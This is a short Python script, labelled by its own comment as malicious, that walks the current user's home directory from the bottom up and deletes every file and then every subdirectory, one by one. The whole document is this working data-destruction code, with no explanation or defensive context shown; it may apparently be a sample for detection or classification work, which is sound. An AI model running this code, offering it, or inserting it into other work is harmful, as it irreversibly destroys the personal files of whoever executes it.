# malicious: removes each file of the home, one by one
import os

for root, dirs, files in os.walk(os.path.expanduser("~"), topdown=False):
    for f in files:
        os.remove(os.path.join(root, f))
    for d in dirs:
        os.rmdir(os.path.join(root, d))
